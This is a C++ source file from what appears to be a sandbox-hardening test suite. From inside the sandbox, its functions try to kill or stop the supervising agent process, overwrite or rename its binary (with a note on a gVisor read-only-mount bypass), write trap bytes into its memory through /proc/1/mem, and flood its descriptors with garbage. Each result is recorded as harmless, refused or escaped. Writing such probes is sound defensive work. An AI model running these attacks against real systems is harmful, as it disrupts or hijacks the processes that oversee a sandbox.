// SPDX-License-Identifier: Apache-2.0
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdlib>

#include "programs/attack/attack.h"

// B12: puts something else in the agent's place. Root may do that to its own sandbox, which at most
// ends; the host's side sees what becomes of the daemon and of the neighbours.
namespace glovebox::attack {
namespace {

Outcome done_to_agent(const Facts& facts, const std::string& what) {
  if (!is_own_pid_namespace(facts)) return got_through(what + ", the host's");
  return harmless(what + (is_root() ? "" : " as an ordinary user, who is root then") +
                  ", in this sandbox only (pid namespace " + read_link("/proc/self/ns/pid") +
                  ", not the host's)");
}

Outcome kill_agent(const Facts& facts) {
  if (::kill(1, SIGKILL) != 0) return refused("kill: " + error_name(errno));
  ::usleep(200'000);
  return done_to_agent(facts, "sent SIGKILL to process 1, and this process still runs");
}

Outcome stop_agent(const Facts& facts) {
  if (::kill(1, SIGSTOP) != 0) return refused("kill: " + error_name(errno));
  return done_to_agent(facts, "sent SIGSTOP to process 1");
}

// O_TRUNC is tried as well, since it has been the one way past a read-only mount of gVisor's.
Outcome overwrite_agent(const Facts&) {
  Tally tally;
  for (const std::string& path :
       {std::string("/proc/1/exe"), std::string("/.glovebox/agent"), read_link("/proc/1/exe")}) {
    if (path.empty()) continue;
    for (const int flags : {O_WRONLY, O_WRONLY | O_TRUNC}) {
      const int fd = ::open(path.c_str(), flags | O_CLOEXEC);
      if (fd < 0) {
        tally.refuse(errno);
        continue;
      }
      tally.succeed(path + " can be written",
                    false);  // and is not: a real hole shall not cost the host its agent
      ::close(fd);
    }
    const std::string aside = path + ".aside";
    if (path != "/proc/1/exe" && ::rename(path.c_str(), aside.c_str()) == 0) {
      ::rename(aside.c_str(), path.c_str());
      tally.succeed(path + " could be renamed", false);
    } else {
      tally.refuse(errno);
    }
  }
  return tally.outcome("");
}

// Its text and its stack: whatever it does next is ours.
Outcome rewrite_agent_memory(const Facts& facts) {
  const std::string maps = read_file("/proc/1/maps", 64 << 10);
  const int memory = ::open("/proc/1/mem", O_RDWR | O_CLOEXEC);
  const int error = errno;
  if (maps.empty() || memory < 0) return refused("/proc/1/mem: " + error_name(error));
  const std::string trap(4096, '\xcc');
  long written = 0;
  for (size_t at = 0; at < maps.size();) {
    char* end = nullptr;
    unsigned long address = std::strtoul(maps.c_str() + at, &end, 16);
    const unsigned long limit = std::strtoul(end + 1, &end, 16);
    for (; address < limit && written < 2048; address += trap.size()) {
      if (::pwrite(memory, trap.data(), trap.size(), static_cast<off_t>(address)) > 0) ++written;
    }
    const size_t next = maps.find('\n', at);
    if (next == std::string::npos) break;
    at = next + 1;
  }
  if (written == 0) return refused("/proc/1/mem opens, and nothing in it can be written");
  return done_to_agent(facts, "rewrote " + std::to_string(written) + " pages of process 1");
}

// What the daemon reads, from the agent's own end; and then what the agent reads. Frames with every
// length, and none.
Outcome garbage_on_channel(const Facts& facts) {
  Tally tally;
  long bytes = 0;
  for (int fd = 0; fd < 256; ++fd) {  // the channel is not among the first
    const int channel =
        ::open(("/proc/1/fd/" + std::to_string(fd)).c_str(), O_WRONLY | O_NONBLOCK | O_CLOEXEC);
    if (channel < 0) {
      tally.refuse(errno);
      continue;
    }
    struct stat status{};
    if (::fstat(channel, &status) != 0 || S_ISCHR(status.st_mode)) {  // /dev/null
      ::close(channel);
      continue;
    }
    unsigned seed = 12345;
    std::string garbage(4096, '\0');
    for (int round = 0; round < 400; ++round) {
      for (char& c : garbage) c = static_cast<char>((seed = seed * 1103515245 + 12345) >> 16);
      if (round % 4 == 0) garbage.replace(0, 8, std::string("\xff\xff\xff\xff\xff\xff\xff\xff", 8));
      const ssize_t n = ::write(channel, garbage.data(), garbage.size());
      if (n > 0) bytes += n;
      pollfd wait{channel, POLLOUT, 0};
      if (n < 0 && (errno != EAGAIN || ::poll(&wait, 1, 20) <= 0)) break;
    }
    ::close(channel);
  }
  if (bytes == 0) return tally.outcome("only null devices open");
  return done_to_agent(facts, "wrote " + std::to_string(bytes) +
                                  " bytes of garbage to the descriptors of process 1");
}

}  // namespace

std::vector<Attempt> agent_attempts() {
  return {{"B12", "overwrite_agent", overwrite_agent, true},
          {"B12", "garbage_on_channel", garbage_on_channel, true},
          {"B12", "rewrite_agent_memory", rewrite_agent_memory, true},
          {"B12", "stop_agent", stop_agent, true},
          {"B12", "kill_agent", kill_agent, true}};
}

}  // namespace glovebox::attack
